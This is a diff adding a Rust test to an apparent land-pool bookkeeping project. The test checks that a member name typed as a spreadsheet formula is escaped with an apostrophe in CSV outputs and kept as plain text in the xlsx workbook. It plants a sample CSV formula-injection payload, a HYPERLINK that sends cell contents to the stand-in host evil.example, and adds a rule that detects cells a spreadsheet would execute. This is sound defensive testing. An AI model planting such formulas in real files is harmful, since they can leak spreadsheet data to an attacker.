@@ -1085,6 +1085,117 @@ fn a_chinese_file_name_with_a_capital_extension_is_read() {
     assert_eq!(read.events().len(), reference.events().len());
 }
 
+/// The cells of a CSV file as a CSV reader (and so a spreadsheet) reads them.
+fn csv_cells(text: &str) -> Vec<String> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
+        .records()
+        .flat_map(|record| {
+            record
+                .unwrap_or_else(|e| panic!("{e}"))
+                .iter()
+                .map(str::to_string)
+                .collect::<Vec<_>>()
+        })
+        .collect()
+}
+
+/// A text a member typed as a formula (`=HYPERLINK(…)`) is written into every CSV file
+/// after an apostrophe, so that Excel or WPS open it as text (OWASP's advice against
+/// formula injection), and a folder written so reads back the name as it was typed.
+#[test]
+fn text_that_looks_like_a_formula_is_written_as_text() {
+    let formula = "=HYPERLINK(\"http://evil.example/\"&A1;\"点此\")";
+    let files: Vec<(String, Vec<u8>)> = ok(ok(BookFolder::reference()).to_files())
+        .into_iter()
+        .map(|(name, text)| {
+            let text = if name == "members.csv" {
+                text.replacen(
+                    "H02,高秀英,",
+                    "H02,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1;\"\"点此\"\")\",",
+                    1,
+                )
+            } else {
+                text
+            };
+            (name, text.into_bytes())
+        })
+        .collect();
+    let folder = ok(BookFolder::from_files(&files));
+    let book = ok(folder.run());
+    let name = |book: &landpool::Book| {
+        book.member(&ok("H02".parse()))
+            .map(|m| m.name.to_string())
+            .unwrap_or_default()
+    };
+    assert_eq!(name(&book), formula);
+    // A cell a spreadsheet would run: = or @ first, or + or - before anything but a number.
+    let runs = |cell: &str| {
+        cell.starts_with(['=', '@'])
+            || (cell.starts_with(['+', '-'])
+                && !cell
+                    .chars()
+                    .skip(1)
+                    .all(|c| c.is_ascii_digit() || c == '.' || c == ','))
+    };
+    let mut written = Vec::new();
+    for out in ok(outputs(&book, folder.settings())) {
+        if out.name.ends_with(".csv") {
+            written.push((
+                out.name.clone(),
+                String::from_utf8_lossy(&out.bytes).into_owned(),
+            ));
+        }
+    }
+    let again = ok(folder.to_files());
+    written.extend(again.iter().cloned());
+    let mut guarded = 0;
+    for (file, text) in &written {
+        for cell in csv_cells(text) {
+            assert!(!runs(&cell), "{file}: {cell}");
+            guarded += usize::from(cell == format!("'{formula}"));
+        }
+    }
+    // members.csv, the member accounts and the households' incomes name H02.
+    assert!(guarded >= 3, "{guarded}");
+    // The workbook holds the text itself (its text cells are never run).
+    #[cfg(feature = "xlsx")]
+    {
+        use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
+        let outs = ok(outputs(&book, folder.settings()));
+        let bytes = outs
+            .iter()
+            .find(|o| o.name == "statements.xlsx")
+            .map(|o| o.bytes.clone())
+            .unwrap_or_default();
+        let mut workbook: Xlsx<_> =
+            open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap_or_else(|e| panic!("{e}"));
+        let (mut plain, mut apostrophe) = (0, 0);
+        for sheet in workbook.sheet_names() {
+            let range = workbook
+                .worksheet_range(&sheet)
+                .unwrap_or_else(|e| panic!("{e}"));
+            for cell in range.used_cells() {
+                if let (_, _, Data::String(text)) = cell {
+                    plain += usize::from(text == formula);
+                    apostrophe += usize::from(*text == format!("'{formula}"));
+                }
+            }
+        }
+        assert!(plain >= 2 && apostrophe == 0, "{plain} {apostrophe}");
+    }
+    // The folder written reads back the name as typed, and writes the same files again.
+    let bytes: Vec<(String, Vec<u8>)> = again
+        .iter()
+        .map(|(name, text)| (name.clone(), text.clone().into_bytes()))
+        .collect();
+    let read = ok(BookFolder::from_files(&bytes));
+    assert_eq!(name(&ok(read.run())), formula);
+    assert_eq!(ok(read.to_files()), again);
+}
+
 #[test]
 fn land_changes_round_trip_and_apply() {
     let folder = land_changes_folder();
